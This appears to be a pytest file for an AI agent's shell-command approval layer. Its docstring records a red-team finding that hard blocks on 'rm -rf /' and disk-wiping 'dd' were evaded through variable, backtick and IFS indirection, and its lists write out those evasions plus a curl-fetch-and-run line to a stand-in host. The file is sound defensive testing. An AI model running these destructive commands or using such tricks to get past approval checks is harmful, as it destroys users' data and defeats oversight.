"""Red team (issue 39, item 5): hard blocks fell to trivial indirection.

``$(echo rm) -rf /``, backticks, ``x=rm; $x -rf /``, ``${x:-rm} -rf /``, ``IFS`` splitting
and ``c=dd; $c ...`` were not flagged at all: the lexer saw ``$x`` as the command's name. The
command is now also parsed by tree-sitter's bash grammar and expanded statically
(:mod:`execengine.approval.expand`); a command word that stays unknown asks.

Each attack goes through :func:`check_command` as the terminal tool calls it, with nobody
to ask (``approvals.mode: ask``) and with a host approver that says "always": a hard block
is refused either way, sandboxed or not. Negative controls: the same words written plainly
are blocked by the same patterns (the table was never the gap), and a command word the
script assigned to something harmless (``x=ls; $x -la``) is not asked about.
"""

from __future__ import annotations

import pytest

from execengine.approval.matcher import assess

from .shellforms import check_hard_blocked, check_passes, refused_unasked

# (attack, the same command written plainly, the hard block both must hit)
ATTACKS = [
    ("$(echo rm) -rf /", "rm -rf /", "rm_vital"),
    ("`echo rm` -rf /", "rm -rf /", "rm_vital"),
    ("x=rm; $x -rf /", "rm -rf /", "rm_vital"),
    ("${x:-rm} -rf /", "rm -rf /", "rm_vital"),
    ("IFS=_; c=rm_-rf_/; $c", "rm -rf /", "rm_vital"),
    ("c=dd; $c if=/dev/zero of=/dev/sda", "dd if=/dev/zero of=/dev/sda", "disk_dd"),
    # a few neighbours of the same trick
    ('x="rm -rf /"; $x', "rm -rf /", "rm_vital"),
    ("export c=dd; $c if=/dev/zero of=/dev/sda", "dd if=/dev/zero of=/dev/sda", "disk_dd"),
    ("x=ls; if true; then x=rm; fi; $x -rf /", "rm -rf /", "rm_vital"),
    ("for c in ls rm; do $c -rf /; done", "rm -rf /", "rm_vital"),
    ('bash -c \'x=rm; "$x" -rf /\'', "rm -rf /", "rm_vital"),
    ("sudo ${c:=rm} -rf /", "rm -rf /", "rm_vital"),
    ("$(echo r)m -rf /", "rm -rf /", "rm_vital"),
]
# command words nothing before the run can know: never silent under ``ask``
UNKNOWN = [
    "$(curl -s http://x.example/cmd) -rf /srv",
    "`cat cmd.txt` /srv",
    "$CMD --all",
    '"${TOOL}" x',
    "x=$(cat f); $x",
    "read x; $x",
    "sudo $x",
    "<(echo rm) -rf /srv",
    "${x/a/rm} -rf /srv",
    "${x:-ls} -la",  # ls, or whatever x holds in the environment
]


@pytest.mark.parametrize(("attack", "plain", "key"), ATTACKS, ids=[a for a, _, _ in ATTACKS])
def test_indirection_is_hard_blocked(attack: str, plain: str, key: str) -> None:
    check_hard_blocked(attack, key)


@pytest.mark.parametrize(("attack", "plain", "key"), ATTACKS, ids=[p for _, p, _ in ATTACKS])
def test_negative_control_the_plain_command_hits_the_same_block(attack: str, plain: str,
                                                                key: str) -> None:
    assert key in {p.key for p in assess(plain).blocked}


@pytest.mark.parametrize("command", UNKNOWN)
def test_an_unknown_command_word_asks(command: str) -> None:
    found = assess(command)
    assert "unknown_command" in {p.key for p in found.flagged}, found.normalized
    verdict = refused_unasked(command)  # approvals.mode: ask, nobody to ask
    assert verdict.status == "denied" and "only known when it runs" in verdict.message, verdict


@pytest.mark.parametrize("command", [
    "x=ls; $x -la", "c=git; $c status", 'd=/tmp/x; "$d"/run.sh', "$(echo ls) -la",
    "IFS=_; c=ls_-la; $c", "ls $HOME", 'echo "$(date)"', "cd $HOME && make",
])
def test_negative_control_a_command_word_known_to_be_harmless_passes(command: str) -> None:
    check_passes(command)


def test_a_script_too_long_to_parse_asks() -> None:
    # tree-sitter's error recovery is superlinear on dangling pipes: past the parse budget
    # the command is not expanded, and asks instead of passing
    padded = "x=rm; $x -rf /srv # " + "x" * (20 * 1024)
    found = assess(padded)
    assert "unparsed" in {p.key for p in found.flagged}, found.descriptions
    assert "unparsed" not in {p.key for p in assess("x=rm; $x -rf /srv").flagged}
